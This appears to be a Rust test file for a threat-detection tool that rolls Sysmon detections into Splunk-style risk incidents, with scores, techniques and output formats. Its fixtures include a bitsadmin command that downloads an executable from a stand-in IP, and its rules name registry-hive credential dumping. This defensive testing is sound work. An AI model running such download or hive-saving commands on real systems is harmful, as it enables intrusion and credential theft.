//! Several detections of one day on one host add up to one incident, in every format that analysts read.

#![allow(clippy::unwrap_used, reason = "a test that cannot run has failed")]

mod support;

use std::{fs, path::Path};

use serde_json::{Value, json};
use support::{example, lurcher};

/// Three downloads on one host within a day, one on another.
fn downloads(folder: &Path) -> String {
    let event = |hour: u32, host: &str, record: u32| {
        json!({
            "@timestamp": format!("2026-03-02T{hour:02}:00:00.000Z"),
            "SourceName": "Microsoft-Windows-Sysmon",
            "Channel": "Microsoft-Windows-Sysmon/Operational",
            "EventID": 1,
            "RecordNumber": record,
            "Hostname": host,
            "Image": "C:\\Windows\\System32\\bitsadmin.exe",
            "CommandLine": format!("bitsadmin /transfer job{record} http://203.0.113.9/a.exe C:\\a.exe"),
            "User": "CORP\\ann",
            "ProcessId": "77",
        })
        .to_string()
    };
    let lines = [event(1, "FIN-01", 1), event(9, "fin-01", 2), event(20, "fin-01", 3), event(9, "fin-02", 4)];
    let path = folder.join("events.jsonl");
    fs::write(&path, lines.join("\n")).unwrap();
    path.to_string_lossy().into_owned()
}

fn hunt(arguments: &[&str]) -> String {
    let rules = example("rules");
    let output = lurcher(&[&["hunt"], arguments, &["--incidents", "--vendor", "splunk", "-r", &rules]].concat());
    assert!(output.status.success(), "{}", String::from_utf8_lossy(&output.stderr));
    String::from_utf8_lossy(&output.stdout).into_owned()
}

fn lines(text: &str) -> Vec<Value> {
    text.lines().map(|line| serde_json::from_str(line).unwrap()).collect()
}

#[test]
fn detections_of_one_day_on_one_host_are_one_incident() {
    let folder = tempfile::tempdir().unwrap();
    let events = downloads(folder.path());
    let alerts = lines(&hunt(&[&events, "--format", "jsonl"]));
    let (incidents, detections): (Vec<&Value>, Vec<&Value>) =
        alerts.iter().partition(|alert| alert["rule"]["name"].as_str().unwrap().starts_with("Risk Threshold"));
    assert_eq!((detections.len(), incidents.len()), (4, 2), "one for the host, one for the user");
    let host = incidents.iter().find(|incident| incident["values"]["risk_object_type"] == "system").unwrap();
    assert_eq!(host["values"]["risk_score"], 147, "3 × 49");
    assert_eq!(host["values"]["normalized_risk_object"], "fin-01");
    assert_eq!(host["techniques"], json!(["T1197", "T1105"]));
    assert_eq!(
        host["entities"],
        json!([{"field": "system", "value": "fin-01", "type": "system", "role": "victim"}]),
        "the user whose downloads they are has an incident of their own"
    );
    let records: Vec<&str> = host["events"].as_array().unwrap().iter().map(|e| e["record"].as_str().unwrap()).collect();
    assert_eq!(records, ["1", "2", "3"], "the events that contributed, in order");
    let contributing = host["values"]["contributing_alerts"].as_array().unwrap();
    assert!(contributing.iter().all(|id| detections.iter().any(|alert| alert["id"] == *id)), "{host}");
}

#[test]
fn splunk_s_documents_carry_what_the_site_knows_of_the_host() {
    let folder = tempfile::tempdir().unwrap();
    let events = downloads(folder.path());
    let assets = folder.path().join("assets.csv");
    fs::write(&assets, "nt_host,priority,category\nFIN-01,critical,finance\n").unwrap();
    let config = folder.path().join("site.toml");
    let factor = "[[risk.factor]]\nname = \"finance\"\nmultiply = 2.0\nwhen = { dest_category = [\"fin*\"] }\n";
    fs::write(&config, factor).unwrap();
    let paths = [assets.to_string_lossy(), config.to_string_lossy()];
    let documents = lines(&hunt(&[
        &events,
        "--format",
        "splunk",
        "--splunk-mode",
        "es7",
        "--assets",
        &paths[0],
        "--config",
        &paths[1],
    ]));
    let risk: Vec<&Value> =
        documents.iter().filter(|d| d["index"] == "risk" && d["normalized_risk_object"] == "fin-01").collect();
    assert_eq!(risk.len(), 3);
    assert!(risk.iter().all(|event| event["risk_score"] == 49 && event["calculated_risk_score"] == 98), "{risk:?}");
    let incident = documents.iter().find(|d| d["index"] == "notable" && d["risk_object"] == "fin-01").unwrap();
    assert_eq!((&incident["severity"], &incident["urgency"]), (&json!("high"), &json!("critical")));
    assert_eq!(incident["risk_score"], 100, "an alert's score ends at 100");
}

#[test]
fn the_table_shows_the_incident_with_its_events() {
    let folder = tempfile::tempdir().unwrap();
    let table = hunt(&[&downloads(folder.path())]);
    assert!(table.contains("Risk Threshold Exceeded for Object Over 24 Hour Period"), "{table}");
    assert!(table.contains("system fin-01: risk score 147 from 3 risk events of 1 rule: "), "{table}");
}

const DOWNLOAD: &str = "name: Download by BITS
id: 3b1f4c1e-7d2a-4b7e-9a53-0d6d3b0a1c01
version: 1
type: TYPE
search: '| tstats count min(_time) as firstTime from datamodel=Endpoint.Processes where Processes.process_name=bitsadmin.exe by Processes.dest Processes.user Processes.process | `drop_dm_object_name(Processes)`'
tags:
  analytic_story: [Odd Downloads]
  impact: 70
  confidence: 70
  message: $user$ downloaded on $dest$
  mitre_attack_id: [T1197]
  observable:
  - {name: dest, type: Hostname, role: [Victim]}
";

const CORRELATION: &str = "name: Odd Downloads Add Up
id: 3b1f4c1e-7d2a-4b7e-9a53-0d6d3b0a1c02
version: 1
type: Correlation
search: '| tstats sum(All_Risk.calculated_risk_score) as risk_score, count as risk_event_count, dc(source) as source_count from datamodel=Risk.All_Risk where All_Risk.analyticstories IN (\"*Odd Downloads*\") by All_Risk.risk_object All_Risk.risk_object_type All_Risk.annotations.mitre_attack.mitre_tactic | `drop_dm_object_name(All_Risk)` | where risk_event_count >= 2'
tags:
  analytic_story: [Odd Downloads]
  message: odd downloads on $risk_object$
  observable:
  - {name: risk_object, type: Hostname, role: [Victim]}
";

/// Hunts with rules of these texts.
fn hunt_with(folder: &Path, rules: &[(&str, String)], arguments: &[&str]) -> Vec<Value> {
    let events = downloads(folder);
    let own = folder.join("rules");
    fs::create_dir_all(&own).unwrap();
    for (name, text) in rules {
        fs::write(own.join(name), text).unwrap();
    }
    let own = own.to_string_lossy();
    let output = lurcher(&[&["hunt", &events, "-r", &own, "--format", "jsonl"], arguments].concat());
    assert!(output.status.success(), "{}", String::from_utf8_lossy(&output.stderr));
    lines(&String::from_utf8_lossy(&output.stdout))
}

#[test]
fn a_correlation_search_sees_the_risk_events_of_the_same_hunt() {
    let folder = tempfile::tempdir().unwrap();
    let hunt = |kind: &str| {
        let rules = [("download.yml", DOWNLOAD.replace("TYPE", kind)), ("correlation.yml", CORRELATION.to_owned())];
        let alerts = hunt_with(folder.path(), &rules, &[]);
        let correlations: Vec<Value> =
            alerts.iter().filter(|alert| alert["rule"]["name"] == "Odd Downloads Add Up").cloned().collect();
        (alerts.len() - correlations.len(), correlations)
    };
    for kind in ["TTP", "Anomaly"] {
        let (detections, correlations) = hunt(kind);
        // What BITS is used for stands under two tactics, and a search by tactic makes a row of each. A search by the object
        // itself takes it as the event names it: `FIN-01` is another.
        assert_eq!(detections, 4, "{kind}");
        assert!(!correlations.is_empty(), "{kind}");
        assert!(correlations.iter().all(|c| c["values"]["risk_object"] == "fin-01"));
    }
    let (detections, correlations) = hunt("Hunting");
    assert_eq!((detections, correlations.len()), (4, 0), "hunting searches add no risk");
}

#[test]
fn alerts_whose_fields_have_fired_within_the_period_are_counted() {
    let folder = tempfile::tempdir().unwrap();
    let throttled = DOWNLOAD.replace("TYPE", "TTP") + "  throttling:\n    fields: [user]\n    period: 36000s\n";
    for (arguments, expected) in [(&[][..], [(1, 2), (3, 0)]), (&["--simulate"], [(1, 2), (3, 0)])] {
        let alerts = hunt_with(folder.path(), &[("download.yml", throttled.clone())], arguments);
        let came: Vec<(u64, u64)> = alerts
            .iter()
            .map(|alert| {
                (alert["events"][0]["record"].as_str().unwrap().parse().unwrap(), alert["suppressed"].as_u64().unwrap())
            })
            .collect();
        // At 1 and at 20 o'clock; those of 9 o'clock lie within ten hours of the first.
        assert_eq!(came, expected, "{arguments:?}");
    }
}

/// What four rules find on one host in a day: name, program, technique, type of rule.
const DAY: [(&str, &str, &str, &str); 4] = [
    ("Download by BITS", "bitsadmin.exe", "T1197", "TTP"),
    ("Who Am I", "whoami.exe", "T1033", "Anomaly"),
    ("Hive Saved", "reg.exe", "T1003.002", "TTP"),
    ("Task Made", "schtasks.exe", "T1053.005", "Anomaly"),
];

/// A day on which each of the four rules finds something on one host, and one of them something on another. The lines of
/// a hunt over it, and its standard output.
fn day(folder: &Path, arguments: &[&str]) -> String {
    let rules = folder.join("rules");
    fs::create_dir_all(&rules).unwrap();
    let mut events = Vec::new();
    for (number, (name, program, technique, kind)) in DAY.iter().enumerate() {
        let rule = DOWNLOAD
            .replace("Download by BITS", name)
            .replace("0c01", &format!("0d0{number}"))
            .replace("TYPE", kind)
            .replace("bitsadmin.exe", program)
            .replace("T1197", technique)
            .replace("role: [Victim]}", "role: [Victim]}\n  - {name: user, type: User, role: [Victim]}");
        fs::write(rules.join(format!("{number}.yml")), rule).unwrap();
        for (host, minute) in [("FIN-01", 0), ("fin-02", 30)].into_iter().take(if number == 0 { 2 } else { 1 }) {
            events.push(
                json!({
                    "@timestamp": format!("2026-03-02T{:02}:{minute:02}:00.000Z", 2 + 6 * number),
                    "SourceName": "Microsoft-Windows-Sysmon",
                    "Channel": "Microsoft-Windows-Sysmon/Operational",
                    "EventID": 1,
                    "RecordNumber": 10 * number + minute,
                    "Hostname": host,
                    "Image": format!("C:\\Windows\\System32\\{program}"),
                    "CommandLine": format!("{program} {number}"),
                    "User": if host == "FIN-01" { "CORP\\ann" } else { "CORP\\bob" },
                })
                .to_string(),
            );
        }
    }
    let path = folder.join("day.jsonl");
    fs::write(&path, events.join("\n")).unwrap();
    let (path, rules) = (path.to_string_lossy(), rules.to_string_lossy());
    let output = lurcher(&[&["hunt", &path, "-r", &rules, "--incidents"], arguments].concat());
    assert!(output.status.success(), "{}", String::from_utf8_lossy(&output.stderr));
    String::from_utf8_lossy(&output.stdout).into_owned()
}

#[test]
fn four_rules_on_one_host_in_a_day_are_an_incident_of_score_and_one_of_tactics() {
    let folder = tempfile::tempdir().unwrap();
    let alerts = lines(&day(folder.path(), &["--format", "jsonl"]));
    let is_incident = |alert: &&Value| alert["rule"]["name"].as_str().unwrap().contains("Exceeded for Object");
    let (incidents, detections): (Vec<&Value>, Vec<&Value>) = alerts.iter().partition(is_incident);
    assert_eq!(detections.len(), 5);
    let told: Vec<(&str, &str)> = incidents
        .iter()
        .map(|i| (i["rule"]["name"].as_str().unwrap(), i["values"]["normalized_risk_object"].as_str().unwrap()))
        .map(|(name, object)| (name.split(' ').next().unwrap(), object))
        .collect();
    for expected in [("Risk", "fin-01"), ("Risk", "ann"), ("ATT&CK", "fin-01"), ("ATT&CK", "ann")] {
        assert!(told.contains(&expected), "{expected:?} in {told:?}");
    }
    assert_eq!(told.len(), 4, "nothing of the other host: {told:?}");
    let of_host = |i: &&Value| i["values"]["normalized_risk_object"] == "fin-01";
    let mut contributing: Vec<&Value> =
        detections.iter().filter(|d| d["message"].as_str().unwrap().contains("FIN-01")).map(|d| &d["id"]).collect();
    contributing.sort_by_key(|id| id.as_str());
    for incident in incidents.iter().filter(|i| of_host(i)) {
        let values = &incident["values"];
        assert_eq!((&values["risk_event_count"], &values["source_count"]), (&json!(4), &json!(4)), "{values}");
        assert_eq!(values["risk_score"], 196, "4 × 49");
        assert_eq!(values["contributing_alerts"].as_array().unwrap().iter().collect::<Vec<_>>(), contributing);
        assert_eq!(incident["events"].as_array().unwrap().len(), 4, "the events that contributed");
        assert_eq!(values["mitre_technique_id"], json!(["T1003.002", "T1033", "T1053.005", "T1197"]));
    }
}

#[test]
fn in_splunk_s_eighth_edition_findings_and_intermediate_findings_add_up_to_a_finding() {
    let folder = tempfile::tempdir().unwrap();
    let index = |documents: &[Value], name: &str| -> Vec<Value> {
        documents.iter().filter(|d| d["index"] == name).cloned().collect()
    };
    let names = |documents: &[Value]| -> Vec<String> {
        let mut names: Vec<String> = documents.iter().map(|d| d["source"].as_str().unwrap().to_owned()).collect();
        names.sort();
        names.dedup();
        names
    };
    let threshold = "Risk - Risk Threshold Exceeded for Object Over 24 Hour Period - Rule";
    let tactics = "Risk - ATT&CK Tactic Threshold Exceeded for Object Over Previous 7 Days - Rule";
    let (bits, hive) = ("ESCU - Download by BITS - Rule", "ESCU - Hive Saved - Rule");
    let (who, task) = ("ESCU - Who Am I - Rule", "ESCU - Task Made - Rule");
    let eight = lines(&day(folder.path(), &["--format", "splunk", "--splunk-mode", "es8"]));
    assert_eq!(names(&index(&eight, "notable")), [bits, hive, tactics, threshold]);
    assert_eq!(names(&index(&eight, "risk")), [task, who]);
    let seven = lines(&day(folder.path(), &["--format", "splunk", "--splunk-mode", "es7"]));
    assert_eq!(names(&index(&seven, "notable")), [bits, hive, tactics, threshold]);
    assert_eq!(names(&index(&seven, "risk")), [bits, hive, task, who], "a finding adds its risk as well");
    for documents in [&eight, &seven] {
        let incident = documents.iter().find(|d| d["source"] == threshold && d["risk_object"] == "FIN-01").unwrap();
        assert_eq!(incident["rule_title"], "RBA: Risk Threshold Exceeded for Object Over 24 Hour Period");
        assert_eq!(incident["contributing_alerts"].as_array().unwrap().len(), 4);
        assert_eq!((&incident["risk_object_type"], &incident["severity"]), (&json!("system"), &json!("medium")));
    }
}

#[test]
fn what_the_site_knows_of_users_changes_their_scores() {
    let folder = tempfile::tempdir().unwrap();
    let identities = folder.path().join("identities.csv");
    fs::write(&identities, "identity,email,priority,category\nann,ann@corp.example,high,privileged|finance\n").unwrap();
    let config = folder.path().join("site.toml");
    let factors = "[[risk.factor]]\nname = \"privileged\"\nmultiply = 2.0\nwhen = { user_category = [\"priv*\"] }\n\
                   [[risk.factor]]\nname = \"discovery\"\nadd = 10\n\
                   when = { \"annotations.mitre_attack\" = [\"T1033\"], risk_object_type = [\"user\"] }\n";
    fs::write(&config, factors).unwrap();
    let (identities, config) = (identities.to_string_lossy(), config.to_string_lossy());
    let site = ["--identities", &identities, "--config", &config, "--format", "splunk", "--splunk-mode", "es7"];
    let documents = lines(&day(folder.path(), &site));
    let mut scores: Vec<(String, i64)> = documents
        .iter()
        .filter(|d| d["index"] == "risk" && d["normalized_risk_object"] == "ann")
        .map(|d| (d["source"].as_str().unwrap().to_owned(), d["calculated_risk_score"].as_i64().unwrap()))
        .collect();
    scores.sort();
    let expected = [("Download by BITS", 98), ("Hive Saved", 98), ("Task Made", 98), ("Who Am I", 108)];
    assert_eq!(scores, expected.map(|(name, score)| (format!("ESCU - {name} - Rule"), score)), "2 × 49, then + 10");
    let incident = documents.iter().find(|d| d["index"] == "notable" && d["normalized_risk_object"] == "ann").unwrap();
    assert_eq!(
        (&incident["severity"], &incident["urgency"]),
        (&json!("high"), &json!("high")),
        "402, of a high priority"
    );
    let unchanged = documents.iter().filter(|d| d["index"] == "risk" && d["risk_object_type"] == "system");
    assert!(unchanged.into_iter().all(|d| d["calculated_risk_score"] == 49));
}

#[test]
fn the_table_tells_both_incidents_of_the_host() {
    let folder = tempfile::tempdir().unwrap();
    let table = day(folder.path(), &[]);
    for line in ["system FIN-01: risk score 196 from 4 risk events of 4 rules", "ATT&CK tactics from 4 rules"] {
        assert!(table.contains(line), "{line}\n{table}");
    }
}

#[test]
fn the_guide_s_example_is_one_incident_of_each_kind_for_the_host_and_its_user() {
    let folder = |part: &str| support::root().join("examples/risk").join(part).to_string_lossy().into_owned();
    let hunt = |format: &str| {
        let output =
            lurcher(&["hunt", &folder("events"), "-r", &folder("rules"), "--incidents", "--quiet", "--format", format]);
        assert!(output.status.success(), "{}", String::from_utf8_lossy(&output.stderr));
        String::from_utf8_lossy(&output.stdout).into_owned()
    };
    let sentence = "system fin-ws01.corp.example: risk score 228 from 5 risk events of 4 rules: Registry Hive With Passwords \
                    Is Saved (2×), Bitsadmin Downloads a Program, Scheduled Task Runs From a Folder of Users, Whoami Asks for \
                    Privileges";
    let alerts = lines(&hunt("jsonl"));
    let incidents: Vec<&Value> =
        alerts.iter().filter(|alert| alert["rule"]["name"].as_str().unwrap().contains("Exceeded for Object")).collect();
    assert_eq!((alerts.len(), incidents.len()), (10, 4));
    assert!(incidents.iter().any(|incident| incident["message"] == sentence), "{incidents:?}");
    let documents = lines(&hunt("splunk"));
    let finding = documents.iter().find(|document| document["rule_description"] == sentence).unwrap();
    assert_eq!(finding["orig_source"].as_array().unwrap().len(), 4);
    let table = hunt("table").split_whitespace().collect::<Vec<_>>().join(" ");
    assert!(table.contains(&format!("2026-03-02 22:05:12 fin-ws01.corp.example a.berg {sentence}")), "{table}");
    assert!(table.contains("2026-03-02 02:13:40") && table.contains("process whoami /priv"), "{table}");
}
